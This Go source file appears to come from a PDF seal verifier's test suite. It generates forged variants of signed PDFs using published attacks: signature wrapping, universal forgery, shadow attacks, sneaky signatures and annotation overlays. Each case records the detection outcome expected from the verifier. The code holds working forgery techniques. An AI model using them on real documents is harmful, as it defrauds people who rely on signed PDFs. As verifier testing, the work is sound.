package attack

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"strings"

	"eseal/pdf"
)

// Signature wrapping (SWA): the signed bytes stay as they are; new content
// hides in the unsigned gap of /Contents — the zero padding after the CMS —
// and a new revision points the content stream there.
func swaContentsGap(t *target) (Case, error) {
	d, err := pdf.Open(bytes.NewReader(t.signed), int64(len(t.signed)))
	if err != nil {
		return Case{}, err
	}
	sigs, err := d.Signatures()
	if err != nil {
		return Case{}, err
	}
	br := sigs[0].ByteRange
	gap := t.signed[br[1]:br[2]] // <hex>
	der, err := hex.DecodeString(string(gap[1:9]))
	if err != nil || der[0] != 0x30 || der[1] != 0x82 {
		return Case{}, fmt.Errorf("attack: /Contents does not start with a DER SEQUENCE")
	}
	cmsLen := 4 + int(der[2])<<8 + int(der[3])
	// /Contents <CMS>/Pad (n 0 obj … endobj)/Pad2 <00…> — still one
	// well-formed dictionary, every signed byte unchanged.
	var obj bytes.Buffer
	writeObject(&obj, object{num: objContent, stream: forgedContent()})
	keep := 1 + 2*cmsLen // '<' and the CMS hex
	inject := []byte(">/Pad(\n")
	objAt := keep + len(inject)
	inject = append(inject, obj.Bytes()...)
	inject = append(inject, ")/Pad2<"...)
	if keep+len(inject)+1 >= len(gap) {
		return Case{}, fmt.Errorf("attack: /Contents padding too small")
	}
	out := append([]byte{}, t.signed...)
	copy(out[br[1]+int64(keep):], inject)
	b, err := appendRevision(out, revision{point: map[int]int64{objContent: br[1] + int64(objAt)}})
	return Case{Name: "swa-contents-gap", Class: "signature wrapping: content hidden in the /Contents padding", PDF: b, Want: Tampered,
		Reason: t.objRev(objContent), Shows: Forged}, err
}

// Universal signature forgery (USF): the signature value is made unusable,
// hoping a verifier skips what it cannot check.
func usfStripByteRange(t *target) (Case, error) {
	d, err := pdf.Open(bytes.NewReader(t.signed), int64(len(t.signed)))
	if err != nil {
		return Case{}, err
	}
	v, err := d.Object(pdf.Ref{Num: t.sealValue})
	if err != nil {
		return Case{}, err
	}
	sd, _ := v.(pdf.Dict)
	b, err := t.append(revision{objects: []object{
		{num: objContent, stream: forgedContent()},
		{num: t.sealValue, body: withEntries(sd, map[string]string{"ByteRange": ""})},
	}})
	return Case{Name: "usf-strip-byterange", Class: "universal forgery: /ByteRange removed", PDF: b, Want: Tampered,
		Reason: t.objRev(t.sealValue), Shows: Forged}, err
}

// usfVariants are the other values the CCS 2019 paper tried in place of a
// signature: an empty /Contents, a /ByteRange of zeros, a null /ByteRange.
func usfVariants(t *target) ([]Case, error) {
	d, err := pdf.Open(bytes.NewReader(t.signed), int64(len(t.signed)))
	if err != nil {
		return nil, err
	}
	v, err := d.Object(pdf.Ref{Num: t.sealValue})
	if err != nil {
		return nil, err
	}
	sd, _ := v.(pdf.Dict)
	var out []Case
	for _, u := range []struct {
		name, key, value string
	}{
		{"usf-contents-empty", "Contents", "<>"},
		{"usf-byterange-zero", "ByteRange", "[0 0 0 0]"},
		{"usf-byterange-null", "ByteRange", "null"},
	} {
		b, err := t.append(revision{objects: []object{
			{num: objContent, stream: forgedContent()},
			{num: t.sealValue, body: withEntries(sd, map[string]string{u.key: u.value})},
		}})
		if err != nil {
			return nil, err
		}
		out = append(out, Case{Name: u.name, Class: "universal forgery: /" + u.key + " " + u.value, PDF: b, Want: Tampered,
			Reason: t.objRev(t.sealValue), Shows: Forged})
	}
	return out, nil
}

func usfValueElsewhere(t *target) (Case, error) {
	d, err := pdf.Open(bytes.NewReader(t.signed), int64(len(t.signed)))
	if err != nil {
		return Case{}, err
	}
	f, err := d.Object(pdf.Ref{Num: t.sealField})
	if err != nil {
		return Case{}, err
	}
	fd, _ := f.(pdf.Dict)
	b, err := t.append(revision{objects: []object{
		{num: objContent, stream: forgedContent()},
		{num: t.sealField, body: withEntries(fd, map[string]string{"V": fmt.Sprintf("%d 0 R", objFont)})},
	}})
	return Case{Name: "usf-value-elsewhere", Class: "universal forgery: /V pointed at another object", PDF: b, Want: Tampered,
		Reason: t.objRev(t.sealField), Shows: Forged}, err
}

// Shadow attacks (NDSS 2021): the input already holds what the attacker
// will show; the update after signing only points the cross-reference at it.

func shadowHide(t *target) (Case, error) {
	b, err := t.append(revision{point: map[int]int64{objCover: t.shadows[objCover]}})
	return Case{Name: "shadow-hide", Class: "shadow attack: hide (the cover XObject pointed at its empty shadow)", PDF: b, Want: Tampered,
		Reason: t.objRev(objCover), Hides: Granted}, err
}

func shadowReplace(t *target) (Case, error) {
	b, err := t.append(revision{point: map[int]int64{objContent: t.shadows[objContent]}})
	return Case{Name: "shadow-replace", Class: "shadow attack: replace (the content pointed at a shadow content stream)", PDF: b, Want: Tampered,
		Reason: t.objRev(objContent), Shows: Forged}, err
}

func shadowHideAndReplace(t *target) (Case, error) {
	point := map[int]int64{}
	for _, n := range []int{objShadowCatalog, objShadowPages, objShadowPage, objShadowContent} {
		point[n] = t.shadows[n]
	}
	b, err := t.append(revision{point: point, trailer: map[string]string{"Root": fmt.Sprintf("%d 0 R", objShadowCatalog)}})
	return Case{Name: "shadow-hide-and-replace", Class: "shadow attack: hide-and-replace (the trailer pointed at a shadow document)", PDF: b,
		Want: Tampered, Reason: fmt.Sprintf("trailer (revision %d): trailer /Root changed", t.next()), Shows: Forged}, err
}

// Sneaky signature attacks (S&P 2021): signature fields that look like
// seals or cover content.

const fakeSeal = "FAKE SEAL OF APPROVAL"

func fakeSealAP() []byte {
	return []byte(fmt.Sprintf("1 0 0 RG 4 w 4 4 142 52 re S BT /F1 9 Tf 1 0 0 rg 10 26 Td (%s) Tj ET\n", fakeSeal))
}

func sneakyEmptyFieldAppearance(t *target) (Case, error) {
	const ap = 60
	b, err := t.append(revision{objects: []object{
		{num: ap, body: "/Type/XObject/Subtype/Form/BBox [0 0 150 60]/Resources<</Font<</F1 4 0 R>>>>", stream: fakeSealAP()},
		{num: objEmptySig, body: "<</Type/Annot/Subtype/Widget/FT/Sig/T (Reviewer)/Rect [350 80 500 140]/P 3 0 R/F 4/AP<</N 60 0 R>>>>"},
	}})
	return Case{Name: "sneaky-empty-field-appearance", Class: "sneaky signature: an empty signature field given a seal's appearance", PDF: b,
		Want: Tampered, Reason: t.objRev(objEmptySig) + ": appearance of empty signature field", Shows: fakeSeal}, err
}

func sneakyFakeSignature(t *target) (Case, error) {
	const ap, v = 60, 61
	b, err := t.append(revision{objects: []object{
		{num: ap, body: "/Type/XObject/Subtype/Form/BBox [0 0 150 60]/Resources<</Font<</F1 4 0 R>>>>", stream: fakeSealAP()},
		{num: v, body: "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/Contents <3000>/Name (Attacker)>>"},
		{num: objEmptySig, body: "<</Type/Annot/Subtype/Widget/FT/Sig/T (Reviewer)/Rect [350 80 500 140]/P 3 0 R/F 4/V 61 0 R/AP<</N 60 0 R>>>>"},
	}})
	return Case{Name: "sneaky-fake-signature", Class: "sneaky signature: an empty signature field given a value without /ByteRange", PDF: b,
		Want: Tampered, Reason: t.objRev(objEmptySig) + ": empty signature field 13 gained a value that does not verify", Shows: fakeSeal}, err
}

// coverRect lies over the decision line the signer saw.
var coverRect = [4]float64{60, 690, 360, 720}

func rectString(r [4]float64) string {
	return fmt.Sprintf("[%s %s %s %s]", num(r[0]), num(r[1]), num(r[2]), num(r[3]))
}

func num(f float64) string {
	return strings.TrimSuffix(strings.TrimRight(fmt.Sprintf("%.4f", f), "0"), ".")
}

// addAnnotation appends a revision putting annot (object 60, appearance 61)
// on page 1, and into /AcroForm /Fields when field is set.
func (t *target) addAnnotation(annot string, field bool) ([]byte, error) {
	annots, _ := t.page["Annots"].(pdf.Array)
	objs := []object{
		{num: 61, body: "/Type/XObject/Subtype/Form/BBox [0 0 300 30]/Resources<</Font<</F1 4 0 R>>>>",
			stream: []byte(fmt.Sprintf("1 g 0 0 300 30 re f 0 g BT /F1 14 Tf 12 10 Td (%s) Tj ET\n", Forged))},
		{num: 60, body: annot},
		{num: objPage, body: withEntries(t.page, map[string]string{"Annots": format(append(append(pdf.Array{}, annots...), pdf.Ref{Num: 60}))})},
	}
	if field {
		fields, _ := t.acroForm["Fields"].(pdf.Array)
		objs = append(objs, object{num: objAcroForm, body: withEntries(t.acroForm, map[string]string{"Fields": format(append(append(pdf.Array{}, fields...), pdf.Ref{Num: 60}))})})
	}
	return t.append(revision{objects: objs})
}

func sneakyNewField(t *target) (Case, error) {
	b, err := t.addAnnotation(fmt.Sprintf("<</Type/Annot/Subtype/Widget/FT/Sig/T (Approver)/Rect %s/P 3 0 R/F 4/AP<</N 61 0 R>>>>", rectString(coverRect)), true)
	return Case{Name: "sneaky-new-field", Class: "sneaky signature: a new unsigned signature field over signed text", PDF: b, Want: Allowed,
		Reason: fmt.Sprintf("/Widget (field \"Approver\") on page 1 at %s, covers signed text", rectString(coverRect))}, err
}

func overlayFreeText(t *target) (Case, error) {
	b, err := t.addAnnotation(fmt.Sprintf("<</Type/Annot/Subtype/FreeText/Rect %s/P 3 0 R/F 4/DA (/Helv 14 Tf 0 g)/Contents (%s)/AP<</N 61 0 R>>>>", rectString(coverRect), Forged), false)
	return Case{Name: "overlay-freetext", Class: "annotation overlay: an opaque FreeText over signed text", PDF: b, Want: Allowed,
		Reason: fmt.Sprintf("/FreeText on page 1 at %s, covers signed text", rectString(coverRect))}, err
}

func overlayStampOnSeal(t *target) (Case, error) {
	r := t.sealRect
	b, err := t.addAnnotation(fmt.Sprintf("<</Type/Annot/Subtype/Stamp/Rect %s/P 3 0 R/F 4/AP<</N 61 0 R>>>>", rectString(r)), false)
	return Case{Name: "overlay-stamp-on-seal", Class: "annotation overlay: a Stamp over the seal", PDF: b, Want: Allowed,
		Reason: fmt.Sprintf("/Stamp on page 1 at [%.0f %.0f %.0f %.0f]", r[0], r[1], r[2], r[3]) + ", covers seal " + t.sealName}, err
}
